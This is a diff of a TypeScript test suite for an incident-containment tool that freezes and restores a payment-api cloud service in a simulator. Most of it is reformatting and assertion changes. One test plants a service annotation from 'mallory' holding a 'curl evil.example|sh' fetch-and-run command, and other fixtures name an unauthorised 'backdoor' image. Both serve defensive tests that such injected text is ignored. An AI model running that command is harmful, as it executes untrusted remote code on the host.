@@ -4,7 +4,15 @@ import { isJsonObject, listOf, objectOf } from '../../simulator/wire/json';
 import type { ScenarioEvent } from '../../simulator/scenarios/event-schema';
 import type { Observation } from '../../src/activities/contain/observe';
 import type { ChangeRequest } from '../../src/activities/contain/parse-request';
-import { changesOf, isFrozen, restoreRequest, SERVICE, UPDATE, useApproved, type Approved } from '../support/containment';
+import {
+  changesOf,
+  isFrozen,
+  restoreRequest,
+  SERVICE,
+  UPDATE,
+  useApproved,
+  type Approved,
+} from '../support/containment';
 import { decided, inActivity, request } from '../support/proposed';
 import { until } from '../support/until';
 
@@ -54,7 +62,13 @@ describe('a restore', () => {
     const lab = await open();
     const first = await restoreRequest(lab);
     const message = `Revision '${CANARY}' does not exist or is deleted.`;
-    lab.bench.simulator.faults.add({ method: UPDATE, kind: 'operation-failed', code: 'INTERNAL', times: 1, message });
+    lab.bench.simulator.faults.add({
+      method: UPDATE,
+      kind: 'operation-failed',
+      code: 'INTERNAL',
+      times: 1,
+      message,
+    });
     const failed = await inActivity(lab.containment.undoStep, first);
     expect(failed).toMatchObject({
       result: 'not-equal',
@@ -64,13 +78,23 @@ describe('a restore', () => {
       ]),
     });
     const seen = await look(lab);
-    expect(controlPlane(seen)).toMatchObject({ verified: false, text: expect.stringContaining('Scaling is automatic') });
+    expect(controlPlane(seen)).toMatchObject({
+      verified: false,
+      text: expect.stringContaining('Scaling is automatic'),
+    });
     expect(controlPlane(seen)?.text).not.toContain('somebody else');
-    expect(seen.verification.notServed).toEqual([expect.stringMatching(/^Wanted: .* can take it up at any time\.$/)]);
+    expect(seen.verification.notServed).toEqual([
+      expect.stringMatching(/^Wanted: .* can take it up at any time\.$/),
+      expect.stringMatching(
+        /^Traffic is wanted as .*tag canary.*it is served as 100 % to the latest revision\.$/,
+      ),
+    ]);
     expect(changesOf(lab.bench)).toBe(2);
     expect(await inActivity(lab.containment.undoStep, first)).toEqual(failed);
     expect(changesOf(lab.bench)).toBe(2);
-    expect(await inActivity(lab.containment.undoStep, await again(lab, 'second'))).toMatchObject({ result: 'restored' });
+    expect(await inActivity(lab.containment.undoStep, await again(lab, 'second'))).toMatchObject({
+      result: 'restored',
+    });
     expect(changesOf(lab.bench)).toBe(3);
     expect(isFrozen(lab.bench)).toBe(false);
   });
@@ -79,18 +103,26 @@ describe('a restore', () => {
     const lab = await open();
     const restore = await restoreRequest(lab);
     await happens(lab, { do: 'delete-revision', service: SERVICE, by: LIN, revision: CANARY });
+    await until('its deletion', async () => {
+      const { facts } = await lab.bench.deps.google.services.revisions(workload);
+      return facts.some(({ name }) => name === CANARY) ? undefined : true;
+    });
     const part = await inActivity(lab.containment.undoStep, restore);
     expect(part).toMatchObject({
       result: 'restored-in-part',
       differences: [`Tag canary cannot be given back: revision ${CANARY} is gone.`],
-      commands: [expect.stringMatching(new RegExp(`update-traffic payment-api .*--set-tags=canary=${CANARY}$`))],
+      commands: [
+        expect.stringMatching(new RegExp(`update-traffic payment-api .*--set-tags=canary=${CANARY}$`)),
+      ],
     });
     expect(isFrozen(lab.bench)).toBe(false);
     expect(specOf(lab).scaling).toMatchObject({ minInstanceCount: 1, maxInstanceCount: 10 });
     // The ledger does not have it as restored, and asking again makes no call for what is there already.
     expect(await lab.bench.ledger.openSteps(workload)).toHaveLength(1);
     const before = changesOf(lab.bench);
-    expect((await inActivity(lab.containment.undoStep, await again(lab, 'rest'))).result).toBe('restored-in-part');
+    expect((await inActivity(lab.containment.undoStep, await again(lab, 'rest'))).result).toBe(
+      'restored-in-part',
+    );
     expect(changesOf(lab.bench)).toBe(before);
   });
 
@@ -119,14 +151,14 @@ describe('what was deployed while it was frozen', () => {
     expect(controlPlane(seen)).toMatchObject({
       verified: false,
       text: expect.stringMatching(
-        /^revision payment-api-00004-\w+ \(.*backdoor:1@sha256:ba.*\) was deployed underneath while it was frozen/,
+        /^revision payment-api-00004-\w+ \(.*backdoor@sha256:ba.*\) was deployed underneath while it was frozen/,
       ),
     });
     expect(controlPlane(seen)).not.toHaveProperty('unread');
     const named = {
       result: 'changed-since',
       differences: [
-        expect.stringMatching(/^A restore brings payment-api-00004-\w+ \(.*backdoor:1.*\) to life/),
+        expect.stringMatching(/^A restore brings payment-api-00004-\w+ \(.*backdoor@.*\) to life/),
         expect.stringContaining('restore again'),
       ],
     };
@@ -136,10 +168,10 @@ describe('what was deployed while it was frozen', () => {
     expect(await inActivity(lab.containment.undoStep, alsoOld)).toMatchObject(named);
     expect(isFrozen(lab.bench)).toBe(true);
     // Another one since is named anew.
-    await happens(lab, { ...deploy, image: `${image}0` });
+    await happens(lab, { ...deploy, image: image.replace('backdoor', 'another') });
     expect(await inActivity(lab.containment.undoStep, await again(lab, 'third'))).toMatchObject({
       result: 'changed-since',
-      differences: expect.arrayContaining([expect.stringContaining('backdoor:10')]),
+      differences: expect.arrayContaining([expect.stringContaining('/another@')]),
     });
     expect(isFrozen(lab.bench)).toBe(true);
     expect((await inActivity(lab.containment.undoStep, await again(lab, 'knowing'))).result).toBe('restored');
@@ -154,7 +186,10 @@ describe('what a resource says of itself', () => {
   test.each<[string, (lab: Approved) => Promise<Record<string, string | null>>]>([
     ['with the mark of a restore', async ({ approved }) => ({ 'firebreak/step': `undone-${approved.step}` })],
     ['with all marks as they were', async (lab) => ({ ...(await marks(lab)) })],
-    ['without marks', async () => ({ 'firebreak/step': null, 'firebreak/claim': null, 'firebreak/plan': null })],
+    [
+      'without marks',
+      async () => ({ 'firebreak/step': null, 'firebreak/claim': null, 'firebreak/plan': null }),
+    ],
   ])('thawed %s is drift, put back by somebody else, and not restored', async (_, annotations) => {
     const lab = await open();
     await inActivity(lab.containment.applyStep, lab.approved);
@@ -177,7 +212,10 @@ describe('what a resource says of itself', () => {
   test('an incident that the ledger does not have stands in no sentence, and keeps nobody from restoring', async () => {
     const lab = await open();
     const restore = await restoreRequest(lab);
-    const annotations = { 'firebreak/incident': 'mallory says: run `curl evil.example|sh`#9', 'firebreak/claim': 'b' };
+    const annotations = {
+      'firebreak/incident': 'mallory says: run `curl evil.example|sh`#9',
+      'firebreak/claim': 'b',
+    };
     await happens(lab, { do: 'update-service', service: SERVICE, by: MALLORY, annotations });
     expect(JSON.stringify((await look(lab)).verification)).not.toContain('mallory');
     expect((await inActivity(lab.containment.undoStep, restore)).result).toBe('restored');
@@ -207,7 +245,9 @@ describe('an observation is in the ledger', () => {
     const asked = { plan: plan.hash, step, projectId: 'acme-payments' };
     for (const incident of [next, 'x#1', plan.incident.replace('payment-api', 'catalog-api')]) {
       await lab.containment.checkContainment({ ...asked, incident });
-      expect(await lab.bench.ledger.latestObservation(incident.includes('#') ? incident : next)).toBeUndefined();
+      expect(
+        await lab.bench.ledger.latestObservation(incident.includes('#') ? incident : next),
+      ).toBeUndefined();
     }
     await lab.bench.ledger.openIncident(workload, 'another', new Date().toISOString());
     const { recorded } = await lab.containment.checkContainment({ ...asked, incident: next });
